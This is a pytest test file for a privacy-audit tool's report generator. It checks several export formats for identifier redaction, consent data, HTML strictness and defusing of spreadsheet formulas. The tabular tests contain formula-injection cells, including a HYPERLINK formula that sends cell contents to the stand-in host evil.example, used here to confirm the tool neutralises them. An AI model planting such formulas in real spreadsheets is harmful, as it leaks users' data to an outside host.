"""`piaudit report`: every format from a realistic session, redaction, escaping and streaming."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import tracemalloc
from html.parser import HTMLParser
from pathlib import Path

import pytest
from openpyxl import load_workbook

from piaudit.addons.captures import read_har
from piaudit.policies import rows
from piaudit.policies.consent import NO_CONSENT_NOTE
from piaudit.policies.models import Finding
from piaudit.policies.session import Session
from piaudit.scripts.cli import main
from piaudit.scripts.reports import write_report
from piaudit.scripts.reports.har import stream_har
from piaudit.scripts.reports.render import MAX_GROUPS
from piaudit.scripts.reports.tabular import columns, defuse
from tests.support.bench import bench_module
from tests.support.sessions import ANDROID_ID, IMEI, LOCATION, OAID, PAYLOADS, T0, build_session

CONTRACT = {"rule", "data_type", "party", "host", "encoding", "where", "flow", "event", "time", "before_consent", "evidence"}
WIRE_FORMS = [IMEI, ANDROID_ID, OAID, LOCATION, base64.b64encode(IMEI.encode()).decode(), hashlib.md5(OAID.encode()).hexdigest()]


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory):
    return build_session(tmp_path_factory.mktemp("reports") / "app1")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory):
    return build_session(tmp_path_factory.mktemp("hostile") / "evil", hostile=True)


def _json(capsys: pytest.CaptureFixture[str], *argv: str) -> dict:
    assert main(["report", *argv, "--format", "json"]) == 0
    return json.loads(capsys.readouterr().out)


class TestJson:
    def test_findings_of_the_latest_run_with_the_contract_fields(self, built, capsys) -> None:
        doc = _json(capsys, str(built.dir))
        assert len(doc["findings"]) == len(built.findings)  # the stale run-1 finding is not reported
        assert all(f.keys() >= CONTRACT for f in doc["findings"])
        assert {f["rule"] for f in doc["findings"]} == {f.rule for f in built.findings}
        # dumps of the model plus the report's group id, round-trip
        assert [Finding.model_validate({k: v for k, v in f.items() if k != "group"}) for f in doc["findings"]]
        assert {f["group"] for f in doc["findings"]} == {g["id"] for g in doc["groups"]}
        assert doc["session"]["app"] == "com.example.shop" and doc["session"]["policy_sha256"]

    def test_consent_and_coverage(self, built, capsys) -> None:
        doc = _json(capsys, str(built.dir))
        assert doc["consent"]["consent_time"] == T0 + 8 and doc["consent"]["note"] is None
        cov = doc["coverage"]
        assert [x["host"] for x in cov["tls_not_inspected"]] == ["pinned.tracker.example"]
        assert [(x["kind"], x["port"]) for x in cov["non_http"]] == [("tcp", 5224)]
        assert [x["api"] for x in cov["hooks_failed"]] == ["com.bun.miitmdid.core.MdidSdkHelper.InitSdk"]
        assert cov["errors_total"] == 1 and cov["hooks_installed"] == 1
        assert set(doc["chains"].values()) == {"intact"}  # the real status, not null

    def test_no_consent_event_is_said(self, tmp_path: Path, capsys) -> None:
        session = build_session(tmp_path / "nc", consent=False)
        assert _json(capsys, str(session.dir))["consent"]["note"] == NO_CONSENT_NOTE
        html = write_report(session.dir, "html", None, lang="en").read_text()
        assert f'<div class="banner alert">{NO_CONSENT_NOTE}</div>' in html

    def test_consent_signals_come_from_the_stored_judgement_not_the_policy_file(self, tmp_path: Path, capsys) -> None:
        session = build_session(tmp_path / "moved")
        policy = tmp_path / "counts-sdk-calls.yaml"
        text = session.policy_path.read_text()
        assert "signals: [manual, ui_click]" in text
        policy.write_text(text.replace("signals: [manual, ui_click]", "signals: [sdk_call, manual]"))
        assert main(["replay", str(session.dir), "--policy", str(policy)]) == 0  # re-judge: a new run and its judgement
        capsys.readouterr()
        policy.write_text(text)  # the file changes afterwards ...
        assert _json(capsys, str(session.dir))["consent"]["signals"] == ["sdk_call", "manual"]
        policy.unlink()  # ... or moves away: the report still says what the judgement counted
        assert _json(capsys, str(session.dir))["consent"]["signals"] == ["sdk_call", "manual"]

    def test_json_to_a_file(self, built, tmp_path: Path) -> None:
        out = write_report(built.dir, "json", tmp_path / "r.json")
        assert len(json.loads(out.read_text())["findings"]) == len(built.findings)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.append((tag, attrs))


class TestHtml:
    def test_default_output_and_sections(self, built) -> None:
        assert main(["report", str(built.dir), "--format", "html", "--lang", "en"]) == 0
        page = (built.dir / "report.html").read_text()
        for anchor in ("summary", "sdks", "timeline", "consent", "findings", "screens", "checklist", "coverage", "provenance"):
            assert f'id="{anchor}"' in page
        assert '<svg class="timeline"' in page and "consent granted" in page
        assert f"<mark>{IMEI}</mark>" in page  # the excerpt's [[...]] highlight
        assert '<li class="caller"><mark>com.umeng.commonsdk.UMConfigure.init(UMConfigure.java:233)</mark>' in page
        assert "MdidSdkHelper.InitSdk" in page and "pinned.tracker.example" in page and "5224" in page
        assert built.policy_path.name in page and Session.open(built.dir).meta.catalog_sha256 in page

    def test_self_contained_and_strict(self, hostile) -> None:
        page = write_report(hostile.dir, "html", None).read_text()
        parser = _Tags()
        parser.feed(page)
        allowed = {
            "html",
            "colgroup",  # the consent table's column widths
            "col",
            "head",
            "meta",
            "title",
            "style",
            "body",
            "header",
            "h1",
            "h2",
            "h3",
            "h4",
            "p",
            "nav",
            "a",
            "main",
            "div",
            "b",
            "i",
            "span",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "pre",
            "code",
            "mark",
            "section",
            "dl",
            "dt",
            "dd",
            "ol",
            "ul",
            "li",
            "svg",
            "rect",
            "line",
            "text",
            "footer",
            "br",
            "img",
        }
        assert {tag for tag, _ in parser.tags} <= allowed  # no script, iframe, object, link...
        for tag, attrs in parser.tags:
            for name, value in attrs:
                assert not name.startswith("on") and name not in ("srcset", "action", "formaction"), (tag, name)
                if name == "src":  # only the screens' own PNGs, inline
                    assert tag == "img" and value and value.startswith("data:image/png;base64,"), (tag, value)
                if name == "href":
                    assert value and value.startswith("#"), value
        assert page.count("<style>") == 1 and "default-src 'none'" in page
        for payload in PAYLOADS:
            assert payload not in page  # only ever present escaped

    def test_repeated_findings_are_one_group(self, tmp_path: Path) -> None:
        session = build_session(tmp_path / "big")
        store = Session.open(session.dir).store
        many = [Finding(rule="OVER_FREQUENCY", data_type="imei", time=T0 + i / 100, before_consent=True) for i in range(1000)]
        store.insert_many("findings", [rows.finding_row(3, f) for f in many])
        store.close()
        page = write_report(session.dir, "html", None, lang="en").read_text()
        assert "1000 findings in 1 groups" in page and page.count('<section class="finding') == 1
        assert "1000 times, first " in page and "×1000" in page

    def test_many_groups_are_capped(self, tmp_path: Path) -> None:
        session = build_session(tmp_path / "wide")
        store = Session.open(session.dir).store
        many = [
            Finding(rule="UNDECLARED_THIRD_PARTY", data_type="imei", host=f"h{i}.example", time=T0 + i / 100, before_consent=True)
            for i in range(MAX_GROUPS + 25)
        ]
        store.insert_many("findings", [rows.finding_row(3, f) for f in many])
        store.close()
        page = write_report(session.dir, "html", None, lang="en").read_text()
        assert f"showing the first {MAX_GROUPS} of {MAX_GROUPS + 25} groups" in page
        assert page.count('<section class="finding') == MAX_GROUPS


class TestTabular:
    def test_csv_worksheet(self, built) -> None:
        out = write_report(built.dir, "csv", None)
        raw = out.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
        table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
        head = table[0]
        assert head[:4] == ["no.", "group", "rule", "severity"] and len(table) == len(built.findings) + 1
        assert [r[0] for r in table[1:]] == [str(n) for n in range(1, len(built.findings) + 1)]
        assert any("精确位置" in r[head.index("message")] for r in table[1:])
        assert all(r[head.index("reviewer verdict")] == "" and r[head.index("notes")] == "" for r in table[1:])
        assert table[1][head.index("time (UTC, ISO 8601)")].endswith("Z") and table[1][head.index("before consent")] in ("yes", "no")
        assert all(r[1].startswith("g-") for r in table[1:])
        assert all(r[head.index("sent by")] == "" for r in table[1:])  # no http:request events in this session

    @pytest.mark.parametrize("cell", ["=1+2", "+1", "-1", "@SUM(A1)", "\t=x", "\r=x"])
    def test_formula_cells_are_defused(self, cell: str) -> None:
        assert defuse(cell) == "'" + cell

    def test_hostile_cells(self, hostile) -> None:
        table = list(csv.reader(io.StringIO(write_report(hostile.dir, "csv", None).read_text("utf-8-sig"))))
        head = table[0]
        row = next(r for r in table if r[2] == "UNDECLARED_DATA_TYPE")
        cell = {name: row[head.index(name)] for name in ("evidence excerpt", "message", "party", "host")}
        assert cell["evidence excerpt"].startswith("'=HYPERLINK") and cell["message"] == "'+SUM(1,2)"
        assert cell["party"] == "'@evil" and cell["host"] == "'-2+3.example"
        sheet = load_workbook(write_report(hostile.dir, "xlsx", None))["findings"]
        cells = [c for r in sheet.iter_rows(min_row=2) for c in r if c.value is not None]
        assert all(c.data_type != "f" for c in cells)
        assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in [c.value for c in cells]

    def test_xlsx_worksheet(self, built) -> None:
        book = load_workbook(write_report(built.dir, "xlsx", None, lang="en"))
        sheet = book["findings"]
        assert len([c.value for c in sheet[1]]) == len(columns()) and sheet[1][0].value == "no."
        assert sheet.max_row == len(built.findings) + 1 and sheet.freeze_panes == "B2"
        assert sheet.data_validations.dataValidation  # the verdict drop-down
        assert "com.example.shop" in [c.value for c in book["session"]["B"]]


class TestHar:
    def test_all_http_flows_with_piaudit_fields(self, built, tmp_path: Path) -> None:
        out = write_report(built.dir, "har", tmp_path / "all.har")
        log = json.loads(out.read_text())["log"]
        assert log["version"] == "1.2" and log["_piaudit_skipped_non_http"] == 1
        by_id = {e["_piaudit_flow_id"]: e for e in log["entries"]}
        assert set(by_id) == {fid for name, fid in built.flow_ids.items() if name != "tcp"}
        umeng = by_id[built.flow_ids["umeng"]]
        assert [d["data_type"] for d in umeng["_piaudit_detections"]] == ["imei", "android_id"]
        assert umeng["_piaudit_findings"] == ["PRE_CONSENT_TRANSMISSION", "UNDECLARED_THIRD_PARTY"]
        assert IMEI in umeng["request"]["postData"]["text"]
        bugly = by_id[built.flow_ids["bugly"]]["request"]["postData"]
        assert bugly["encoding"] == "base64" and base64.b64decode(bugly["text"]).startswith(b"\x00\x01\xff")  # decoded from gzip
        assert "欢迎光临" in by_id[built.flow_ids["config"]]["response"]["content"]["text"]
        assert by_id[built.flow_ids["ws"]]["_webSocketMessages"]
        for entry in log["entries"]:
            assert {"startedDateTime", "time", "request", "response", "cache", "timings"} <= entry.keys()

    def test_only_findings_and_replay_keeps_ids(self, built, tmp_path: Path) -> None:
        assert main(["report", str(built.dir), "--format", "har", "--only-findings", "-o", str(tmp_path / "f.har")]) == 0
        ids = [f.id for f in read_har(tmp_path / "f.har")]  # the reader `piaudit replay` uses
        assert sorted(ids) == sorted(built.flow_ids[n] for n in ("umeng", "baidu", "bugly", "push"))

    def test_memory_does_not_grow_with_the_session(self, tmp_path: Path) -> None:
        peaks = []
        for n in (40, 400):
            session = Session.open(bench_module("bench_har").make_session(tmp_path / f"s{n}", n, body_size=50_000))
            tracemalloc.start()
            with open(tmp_path / f"{n}.har", "w") as fh:
                stream_har(session, fh)
            peaks.append(tracemalloc.get_traced_memory()[1])
            tracemalloc.stop()
            session.store.conn.close()
        # ten times the flows (about 60 MB of bodies): a list of entries would need ten times the memory
        assert peaks[1] < 2 * peaks[0] + 1_000_000, peaks


class TestRedaction:
    @pytest.mark.parametrize("fmt", ["html", "json", "csv", "xlsx", "har"])
    def test_no_identifier_survives(self, built, tmp_path: Path, fmt: str) -> None:
        out = write_report(built.dir, fmt, tmp_path / f"r.{fmt}", redact=True)
        if fmt == "xlsx":
            book = load_workbook(out)
            text = "\n".join(str(c.value) for s in book for r in s.iter_rows() for c in r if c.value is not None)
        elif fmt in ("json", "har"):  # decode \u escapes before looking
            text = json.dumps(json.loads(out.read_text()), ensure_ascii=False)
        else:
            text = out.read_text("utf-8-sig")
        for value in WIRE_FORMS:
            assert value not in text and value.upper() not in text, (fmt, value)
        assert "‹imei:sha256:" in text

    def test_har_binary_bodies_become_notes(self, built, tmp_path: Path) -> None:
        log = json.loads(write_report(built.dir, "har", tmp_path / "r.har", redact=True).read_text())["log"]
        bugly = next(e for e in log["entries"] if e["_piaudit_flow_id"] == built.flow_ids["bugly"])
        assert bugly["request"]["postData"]["text"].startswith("‹binary body redacted:")
        assert "encoding" not in bugly["request"]["postData"]


class TestCli:
    def test_usage_errors_exit_2(self, built, tmp_path: Path, capsys) -> None:
        assert main(["report", str(tmp_path / "nothing"), "--format", "html"]) == 2
        assert main(["report", str(built.dir), "--format", "csv", "--only-findings"]) == 2
        assert main(["report", str(built.dir), "--format", "html", "-o", "-"]) == 2
        err = capsys.readouterr().err
        assert "not a piaudit session" in err and "--format har only" in err
